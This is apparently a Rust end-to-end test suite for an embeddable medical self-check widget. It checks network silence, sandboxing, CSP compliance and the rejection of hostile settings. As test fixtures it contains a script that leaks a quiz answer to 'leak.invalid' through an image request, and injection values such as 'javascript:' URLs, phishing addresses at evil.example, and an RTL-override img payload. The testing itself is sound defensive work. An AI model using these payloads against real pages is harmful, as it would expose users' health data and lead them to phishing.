//! What leaves the document, and what stays in it: nothing.

#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use std::collections::{BTreeMap, BTreeSet};

use e2e::{Browser, Server, Visitor, case, dist};
use serde_json::json;

#[tokio::test]
async fn a_whole_quiz_asks_for_nothing_after_the_document() {
    for (id, tier) in [("V77", "emergency"), ("V47", "surgical_discussion")] {
        let server = Server::of(dist()).unwrap();
        let browser = Browser::start().await.unwrap();
        let visitor = Visitor::on_page(&browser.client, &server.address("/plain.html")).await.unwrap();
        let at_load = server.requests();
        let (seen, _) = visitor.take(&case(id).unwrap()).await.unwrap();
        assert_eq!(seen.outcome.as_deref(), Some(tier));
        visitor.press("restart").await.unwrap();
        assert_eq!(server.requests(), at_load, "the server was asked for something after the load");
        let asked: BTreeSet<String> = browser.close().await.unwrap().into_iter().collect();
        let loaded = ["/pars-check.en.html", "/plain.html", "/style.css"].map(|path| server.address(path));
        assert_eq!(asked, BTreeSet::from(loaded), "the browser's own network log");
    }
}

#[tokio::test]
async fn the_network_log_would_show_a_request_from_such_a_frame() {
    // The same frame around a document without a policy, which asks for a picture elsewhere.
    let leak = "<!doctype html><title>leak</title><script>const picture = new Image(); \
        picture.onerror = () => { document.title = 'asked' }; picture.src = 'http://leak.invalid/?answer=35_49'</script>";
    let host = "<!doctype html><iframe src=leak.html sandbox=allow-scripts></iframe>";
    let pages = BTreeMap::from([("/leak.html".into(), leak.into()), ("/host.html".into(), host.into())]);
    let server = Server::with_pages(dist(), pages).unwrap();
    let browser = Browser::start().await.unwrap();
    browser.client.goto(&server.address("/host.html")).await.unwrap();
    browser.client.enter_frame(0).await.unwrap();
    Visitor::outside(&browser.client).until("the request", "return document.title === 'asked'").await.unwrap();
    let asked = browser.close().await.unwrap();
    assert!(asked.contains(&"http://leak.invalid/?answer=35_49".to_owned()), "{asked:?}");
}

#[tokio::test]
async fn nothing_violates_the_policy_and_the_console_is_quiet() {
    let server = Server::of(dist()).unwrap();
    let browser = Browser::start().await.unwrap();
    let watch = "addEventListener('securitypolicyviolation', (event) => (window.__violations ??= []).push(event.violatedDirective))";
    browser.cdp("Page.addScriptToEvaluateOnNewDocument", json!({"source": watch})).await.unwrap();
    let address = server.address("/pars-check.en.html");
    let visitor = Visitor::alone(&browser.client, &address).await.unwrap();
    let title = visitor.run("return document.title").await.unwrap();
    visitor.take(&case("V47").unwrap()).await.unwrap();
    let state = "return [window.__violations ?? [], location.href, document.title, document.querySelectorAll('[style]').length]";
    // The root element's own style holds the accent, which is a setting and was given none here.
    assert_eq!(visitor.run(state).await.unwrap(), json!([[], address, title, 0]));
    visitor.press("restart").await.unwrap();
    assert_eq!(visitor.run(state).await.unwrap(), json!([[], address, title, 0]), "after erasing");
    assert_eq!(browser.console().await.unwrap(), Vec::<String>::new(), "the console is quiet");
    browser.close().await.unwrap();
}

#[tokio::test]
async fn the_page_around_hears_ready_and_started_and_no_more() {
    let host = "<!doctype html><script>window.heard = []; addEventListener('message', (event) => heard.push([event.origin, event.data]))</script>\
        <iframe src='pars-check.en.html' sandbox='allow-scripts allow-modals allow-downloads allow-top-navigation-by-user-activation' width=400 height=700></iframe>";
    let server = Server::with_pages(dist(), BTreeMap::from([("/host.html".into(), host.into())])).unwrap();
    let browser = Browser::start().await.unwrap();
    let mut heard = Vec::new();
    for id in ["V77", "V47"] {
        let visitor = Visitor::on_page(&browser.client, &server.address("/host.html")).await.unwrap();
        visitor.take(&case(id).unwrap()).await.unwrap();
        visitor.press("restart").await.unwrap();
        browser.leave_frames().await.unwrap();
        heard.push(Visitor::outside(&browser.client).run("return window.heard").await.unwrap());
        let readable = "try { return !!document.querySelector('iframe').contentDocument } catch { return false }";
        assert_eq!(
            Visitor::outside(&browser.client).run(readable).await.unwrap(),
            false,
            "the page can't read the frame"
        );
    }
    let both = json!([["null", {"pars-check": "ready"}], ["null", {"pars-check": "started"}]]);
    assert_eq!(heard, [both.clone(), both]);
    browser.close().await.unwrap();
}

#[tokio::test]
async fn the_loader_gives_the_frame_exactly_the_sandbox_and_passes_two_events_on() {
    let page = "<!doctype html><html lang=en><body><pars-check contact='/contact.html'></pars-check>\
        <script>window.events = []; for (const name of ['ready', 'started']) \
        document.querySelector('pars-check').addEventListener(name, (event) => events.push([event.type, event.detail]))</script>\
        <script type=module src=pars-check.js></script>";
    let server = Server::with_pages(dist(), BTreeMap::from([("/element.html".into(), page.into())])).unwrap();
    let browser = Browser::start().await.unwrap();
    let visitor = Visitor::on_page(&browser.client, &server.address("/element.html")).await.unwrap();
    visitor.tick("age", "35_49").await.unwrap();
    visitor.press("continue").await.unwrap();
    browser.leave_frames().await.unwrap();
    let outside = Visitor::outside(&browser.client);
    let frame = "const frame = document.querySelector('pars-check').shadowRoot.querySelector('iframe'); \
        return ['sandbox', 'allow', 'referrerpolicy'].map((name) => frame.getAttribute(name))";
    let sandbox = "allow-scripts allow-modals allow-downloads allow-top-navigation-by-user-activation";
    assert_eq!(outside.run(frame).await.unwrap(), json!([sandbox, "", "no-referrer"]));
    assert_eq!(outside.run("return window.events").await.unwrap(), json!([["ready", null], ["started", null]]));
    browser.close().await.unwrap();
}

#[tokio::test]
async fn both_demo_pages_differ_in_the_embedding_alone() {
    let page = |name: &str| std::fs::read_to_string(dist().join(name)).unwrap();
    let around = |text: &str| {
        let text: String = text
            .lines()
            .filter(|line| !line.contains("Content-Security-Policy") && !line.contains("pars-check.js"))
            .collect::<Vec<_>>()
            .join("\n");
        let (before, rest) = text.split_once("<!-- self-check:").unwrap();
        let (_, after) = rest.split_once("<!-- self-check: end -->").unwrap();
        (before.to_owned(), after.to_owned())
    };
    let (element, plain) = (around(&page("index.html")), around(&page("plain.html")));
    let differing = |one: &str, other: &str| one.lines().zip(other.lines()).filter(|(one, other)| one != other).count();
    assert!(
        differing(&element.0, &plain.0) <= 3 && differing(&element.1, &plain.1) <= 3,
        "the demo pages drifted apart"
    );
}

#[tokio::test]
async fn hostile_settings_cannot_turn_the_page_against_its_reader() {
    let browser = Browser::start().await.unwrap();
    let own = "contact.html".to_owned();
    let malformed = "%EF%BF%BD%A".to_owned(); // an address of our own that leads nowhere
    let fragments = [
        ("contact=https://evil.example/phish", None),
        ("contact=javascript:alert(1)", None),
        ("contact=//evil.example/", None),
        ("contact=http://user:password@127.0.0.1/", None),
        ("contact=data:text/html,x", None),
        ("contact=%E0%A4%A", Some(&malformed)),
        ("contact=/contact.html&contact=https://evil.example", Some(&own)),
        (
            "contact=/contact.html&clinic=%E2%80%AE%3Cimg%20src=x%3E&tel=javascript:1&emergency=1900555&accent=url(x)",
            Some(&own),
        ),
    ];
    for (fragment, contact) in fragments {
        let host = format!(
            "<!doctype html><meta charset=utf-8><iframe src=\"pars-check.en.html#{fragment}\" sandbox=\"allow-scripts allow-modals allow-downloads allow-top-navigation-by-user-activation\" width=400 height=700></iframe>"
        );
        let server_of_host = Server::with_pages(dist(), BTreeMap::from([("/host.html".into(), host)])).unwrap();
        let visitor = Visitor::on_page(&browser.client, &server_of_host.address("/host.html")).await.unwrap();
        let (seen, _) = visitor.take(&case("V63").unwrap()).await.unwrap();
        assert_eq!(seen.contact, contact.map(|path| server_of_host.address(&format!("/{path}"))), "{fragment}");
        let shown = visitor.run("return [document.querySelector('.emergency-number').textContent, document.querySelectorAll('#app img').length, document.body.innerHTML.includes('\\u202e')]").await.unwrap();
        assert_eq!(shown, json!(["911", 0, false]), "{fragment}");
    }
    browser.close().await.unwrap();
}

#[tokio::test]
async fn settings_show_where_they_may_and_are_marked_as_given() {
    let server = Server::of(dist()).unwrap();
    let browser = Browser::start().await.unwrap();
    let fragment =
        "contact=/contact.html&clinic=North%20Spine&tel=%2B1%20555%20010%200199&emergency=112&accent=%23aa3377";
    let host = format!(
        "<!doctype html><meta charset=utf-8><iframe src=\"pars-check.en.html#{fragment}\" sandbox=\"allow-scripts allow-modals allow-downloads allow-top-navigation-by-user-activation\" width=400 height=700></iframe>"
    );
    let framed = Server::with_pages(dist(), BTreeMap::from([("/host.html".into(), host)])).unwrap();
    let visitor = Visitor::on_page(&browser.client, &framed.address("/host.html")).await.unwrap();
    visitor.take(&case("V63").unwrap()).await.unwrap();
    let text = visitor.text(".contact").await.unwrap();
    for said in [
        "Contact North Spine",
        "Call North Spine: +1 555 010 0199",
        "Not for urgent problems",
        "given by the page around",
    ] {
        assert!(text.contains(said), "{text}");
    }
    assert_eq!(visitor.run("return document.querySelector('.emergency-number').href").await.unwrap(), "tel:112");
    let accent =
        visitor.run("return document.documentElement.style.getPropertyValue('--given-accent-on-light')").await.unwrap();
    assert!(accent.as_str().is_some_and(|accent| accent.starts_with('#')), "{accent}");
    // Urgent and emergency outcomes show no telephone of the clinic's, even if there is one.
    for id in ["V23", "V77"] {
        let visitor = Visitor::on_page(&browser.client, &framed.address("/host.html")).await.unwrap();
        visitor.take(&case(id).unwrap()).await.unwrap();
        assert!(!visitor.text("#app").await.unwrap().contains("555 010"), "{id}");
    }
    // By itself the file honours no name, number or accent of a link that anybody can write.
    let visitor =
        Visitor::alone(&browser.client, &server.address(&format!("/pars-check.en.html#{fragment}"))).await.unwrap();
    visitor.take(&case("V63").unwrap()).await.unwrap();
    let text = visitor.text("body").await.unwrap();
    assert!(text.contains("Contact this clinic") && !text.contains("North Spine") && !text.contains("555"), "{text}");
    assert_eq!(visitor.run("return document.querySelector('.emergency-number').href").await.unwrap(), "tel:911");
    assert_ne!(visitor.see().await.unwrap().contact, None, "a contact address of its own origin it does");
    browser.close().await.unwrap();
}

#[tokio::test]
async fn a_contact_address_that_is_left_out_is_named_in_the_console() {
    let server = Server::of(dist()).unwrap();
    let browser = Browser::start().await.unwrap();
    let address = server.address("/pars-check.en.html#contact=https://other.example/contact");
    Visitor::alone(&browser.client, &address).await.unwrap();
    let said = browser.console().await.unwrap();
    assert!(said.iter().any(|line| line.contains("the contact address is left out")), "{said:?}");
    browser.close().await.unwrap();
}

#[tokio::test]
async fn a_language_that_is_not_shipped_gets_the_one_that_is() {
    let page = "<!doctype html><html lang=ar><body><pars-check lang='../x'></pars-check><script type=module src=pars-check.js></script>";
    let server = Server::with_pages(dist(), BTreeMap::from([("/element.html".into(), page.into())])).unwrap();
    let browser = Browser::start().await.unwrap();
    Visitor::on_page(&browser.client, &server.address("/element.html")).await.unwrap();
    assert!(server.requests().contains(&"/pars-check.en.html".to_owned()), "{:?}", server.requests());
    browser.close().await.unwrap();
}
